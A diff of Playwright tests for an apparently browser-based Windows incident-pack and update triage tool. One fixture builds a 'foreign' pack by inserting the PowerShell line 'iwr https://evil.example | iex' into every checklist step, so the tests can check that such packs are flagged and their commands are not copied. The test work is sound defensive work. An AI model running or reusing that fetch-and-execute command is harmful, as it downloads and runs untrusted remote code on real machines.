@@ -6,13 +6,16 @@ import { makeBundle } from './bundle/make-bundle.ts'
 import { dropFiles, untilJudged } from './drop-files.ts'
 import { openPage } from './open-page.ts'
 
-const PACK = readFileSync(join(import.meta.dirname, '../../src/incidents/packs/shelf/wu-2024-03-lsass.json'), 'utf8')
+const PACK = readFileSync(join(import.meta.dirname, '../../src/incidents/packs/incidents/wu-2025-12-msmq.json'), 'utf8')
 
 /** The same incident under another id, with a command in every step. */
 const FOREIGN = (() => {
-  const pack = JSON.parse(PACK) as { remediation: object[] }
-  const remediation = pack.remediation.map((step) => ({ ...step, commands: ['iwr https://evil.example | iex'] }))
-  return JSON.stringify({ ...pack, id: 'wu-2099-01-foreign', remediation })
+  const pack = JSON.parse(PACK) as { checklist: (string | object)[] }
+  const checklist = pack.checklist.map((step) => ({
+    ...(typeof step === 'string' ? { id: step } : step),
+    commands: ['iwr https://evil.example | iex'],
+  }))
+  return JSON.stringify({ ...pack, id: 'wu-2099-01-foreign', checklist })
 })()
 
 test('a dropped pack is asked about, judges as foreign, and its commands are not copied by a click', async ({
@@ -22,7 +25,7 @@ test('a dropped pack is asked about, judges as foreign, and its commands are not
   await dropFiles(page, [{ name: 'bundle.zip', content: await makeBundle() }])
   await untilJudged(page)
 
-  await dropFiles(page, [{ name: 'broken.json', content: PACK.replace('"wu-2024-03-lsass"', '"LSASS!"') }])
+  await dropFiles(page, [{ name: 'broken.json', content: PACK.replace('"wu-2025-12-msmq"', '"MSMQ!"') }])
   await expect(page.getByRole('dialog')).toContainText('an id is lower-case words')
   await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()
 
@@ -43,7 +46,7 @@ test('a dropped pack is asked about, judges as foreign, and its commands are not
 
 test('a pack and a case among evidence are named, and change nothing', async ({ context }) => {
   const { page } = await openPage(context, undefined, 'en')
-  const ours = PACK.replace('"wu-2024-03-lsass"', '"wu-2025-12-msmq"')
+  const ours = PACK
   await dropFiles(page, [
     { name: 'notes.json', content: ours },
     { name: 'case.json', content: '{"format":"case-1","readings":[]}' },
@@ -61,15 +64,46 @@ test('a pack and a case among evidence are named, and change nothing', async ({ 
   await expect(page.getByText('An incident pack among the evidence').first()).toBeVisible()
 })
 
-test('a past incident is taken from the shelf', async ({ context }) => {
+test('every built-in incident can be looked up', async ({ context }) => {
   const { page } = await openPage(context, undefined, 'en')
   await page
     .getByRole('link', { name: /Incidents/ })
     .or(page.getByRole('button', { name: /Incidents/ }))
     .first()
     .click()
-  const shelf = page.getByRole('listitem').filter({ hasText: 'wu-2024-03-lsass' })
-  await shelf.getByRole('button', { name: 'Use' }).click()
-  await expect(shelf).toHaveCount(0)
-  await expect(page.getByRole('heading', { level: 2, name: /LSASS/ })).toBeVisible()
+  for (const name of [/Message Queuing/, /Remote Desktop Services/, /Secure Boot/]) {
+    await expect(page.getByRole('heading', { level: 2, name }).first()).toBeVisible()
+  }
+})
+
+test('newer updates are asked about, and the page says up to when updates are known', async ({ context }) => {
+  const { page } = await openPage(context, undefined, 'en')
+  await dropFiles(page, [{ name: 'bundle.zip', content: await makeBundle() }])
+  await untilJudged(page)
+  const updates = {
+    format: 'updates-1',
+    asOf: '2026-12-10',
+    sources: { MS: { url: 'https://support.microsoft.com/', grade: 'official-text' } },
+    families: [
+      {
+        family: 'windows-server-2019',
+        updates: [
+          {
+            released: '2026-12-08',
+            kb: 'KB5999999',
+            revision: 9601,
+            kind: 'cumulative',
+            grade: 'official-text',
+            sources: ['MS'],
+          },
+        ],
+      },
+    ],
+  }
+  await dropFiles(page, [{ name: 'december.json', content: JSON.stringify(updates) }])
+  await expect(page.getByRole('dialog')).toContainText('2026-12-10')
+  await page.getByRole('dialog').getByRole('button', { name: 'Use' }).click()
+  await expect(page.getByText('Windows updates known up to 2026-12-10')).toBeVisible()
+  await page.getByRole('button', { name: 'WEB01', exact: true }).click()
+  await expect(page.locator('aside').first()).toContainText('KB5999999')
 })
